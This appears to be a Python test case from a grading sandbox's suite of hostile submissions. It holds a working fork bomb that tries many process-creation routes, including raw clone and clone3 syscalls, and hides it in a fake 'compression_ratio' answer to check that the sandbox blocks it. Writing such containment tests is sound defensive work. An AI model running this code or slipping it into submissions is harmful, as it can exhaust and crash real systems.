"""53. A fork bomb, by every way to make a process.

Verdict: refused; a student's process makes no other. The wrong answer earns nothing.
"""

from hostile import Attack

WAYS = """
import ctypes, multiprocessing, os, pty, subprocess, sys
libc = ctypes.CDLL(None, use_errno=True)
call = lambda *parts: libc.syscall(*map(ctypes.c_long, parts))
arguments = ctypes.create_string_buffer(88)  # of clone3
arguments[32:33] = bytes([17])
def in_place_of(result):
    if result == 0:
        bomb()
        os._exit(0)
    if result < 0:
        raise OSError(ctypes.get_errno(), "refused")
WAYS = [
    lambda: in_place_of(os.fork()),
    lambda: in_place_of(os.forkpty()[0]),
    lambda: in_place_of(libc.fork()),
    lambda: in_place_of(call(57)),
    lambda: in_place_of(call(56, 17, 0, 0, 0, 0)),
    lambda: in_place_of(call(56, 17 | 0x8000, 0, 0, 0, 0)),
    lambda: in_place_of(call(56, 0x1200000 | 17 | 1 << 40, 0, 0, 0, 0)),
    lambda: in_place_of(call(435, ctypes.addressof(arguments), 88)),
    lambda: os.posix_spawn(sys.executable, [sys.executable], {}),
    lambda: subprocess.Popen(["sleep", "60"]),
    lambda: os.execv(sys.executable, [sys.executable, "-c", "while True: pass"]),
    lambda: multiprocessing.Process(target=print).start(),
    lambda: multiprocessing.get_context("spawn").Process(target=print).start(),
]
def bomb():
    made = 0
    for _ in range(5):
        for way in WAYS:
            try:
                way()
                made += 1
            except OSError:
                pass
    return made
"""

ATTACK = Attack(
    first=WAYS + 'print("made:", bomb())',
    answers={
        "compression_ratio": WAYS
        + """
def compression_ratio(shape, k):
    raise RuntimeError(f"made: {bomb()}")
"""
    },
    earns={"compression_ratio": 0},
    reports=("RuntimeError: made: 0",),
    outputs=("made: 0",),
)
